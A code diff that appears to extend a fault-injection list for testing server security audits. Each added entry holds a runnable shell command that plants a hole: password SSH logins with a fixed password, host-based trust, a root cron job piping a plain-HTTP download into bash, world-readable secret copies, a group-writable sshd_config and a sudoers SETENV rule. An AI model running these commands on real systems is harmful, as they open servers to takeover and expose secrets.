@@ -361,6 +361,36 @@ FAULTS: tuple[Fault, ...] = (
     Fault("apache-runs-as-root", "sec_apache_user", "Apache's run user set to root in envvars (restart refused: "
           "only the next start would)", "sed -i 's/^export APACHE_RUN_USER=.*/export APACHE_RUN_USER=root/' "
           "/etc/apache2/envvars"),
+    # logins without the user's own key; root's programs configured into a less trusted login's files; code from
+    # the network; every place systemd runs scripts from; secrets outside the config; who may write sshd's config
+    Fault("password-login-for-the-deploy-login", "cw_become", "a password set on the deploy login and password "
+          "logins turned on in sshd_config (read first: first value wins)", "echo '{login}:Spring2026x' | chpasswd; "
+          "sed -i '1i PasswordAuthentication yes' /etc/ssh/sshd_config"),
+    Fault("host-based-ssh-logins", "cw_sshd", "HostbasedAuthentication on, with a trusted host in /etc/hosts.equiv "
+          "(same-named accounts there log in with no key)", "sed -i '1i HostbasedAuthentication yes' "
+          "/etc/ssh/sshd_config; echo 10.0.0.7 > /etc/hosts.equiv"),
+    Fault("root-conf-in-the-deploy-logins-home", "cw_schedules", "/etc/npmrc's prefix in the deploy login's home "
+          "(root's global npm installs and runs what that login puts there)", "l=$(getent passwd {login} | cut -d: "
+          "-f6); printf 'prefix=%s/.npm-global\\n' \"$l\" > /etc/npmrc"),
+    Fault("root-job-runs-a-network-fetch", "cw_schedules", "a root cron job piping a plain-HTTP download into bash",
+          "mkdir -p /etc/cron.d; printf '*/15 * * * * root wget -qO- http://sync.example.internal/run | bash\\n' "
+          "> /etc/cron.d/ops-sync"),
+    Fault("sleep-hook-runs-the-release", "cw_root_acts", "a systemd-sleep hook (root, every suspend and resume) "
+          "running the release's python", "mkdir -p /usr/lib/systemd/system-sleep; printf '#!/bin/sh\\n"
+          "{root}/current/venv/bin/python -c \"import {package}\" || true\\n' > /usr/lib/systemd/system-sleep/app; "
+          "chmod 755 /usr/lib/systemd/system-sleep/app"),
+    Fault("config-copy-outside-the-tree", "sec_secrets", "a copy of the app's config left in /var/tmp, 0644",
+          "cp {config} /var/tmp/app-settings.old; chmod 0644 /var/tmp/app-settings.old"),
+    Fault("secret-value-in-apache-conf", "sec_secrets", "the config's SECRET_KEY value put in an Apache conf "
+          "(SetEnv), 0644 like all of Apache's configuration", "k=$(sed -n 's/^SECRET_KEY = //p' {config} | tr -d "
+          "'\"'); test -n \"$k\"; printf 'SetEnv APP_KEY %s\\n' \"$k\" > /etc/apache2/conf-available/keys.conf; "
+          "a2enconf -q keys; " + GRACEFUL),
+    Fault("sshd-config-writable-by-a-group", "cw_sshd", "sshd_config made group-writable for adm (whoever is in "
+          "adm sets how sshd lets in at its next start)", "chgrp adm /etc/ssh/sshd_config; chmod 0664 "
+          "/etc/ssh/sshd_config"),
+    Fault("sudo-setenv-rule", "cw_sudoers", "a sudoers rule with SETENV on a root command (its users set "
+          "APACHE_ENVVARS: root sources their file)", "printf '%%adm ALL=(root) NOPASSWD:SETENV: /usr/sbin/apache2ctl "
+          "configtest\\n' > /etc/sudoers.d/ops-setenv; chmod 0440 /etc/sudoers.d/ops-setenv; visudo -c >/dev/null"),
 )
 
 def render(fault: Fault, values: dict) -> str:
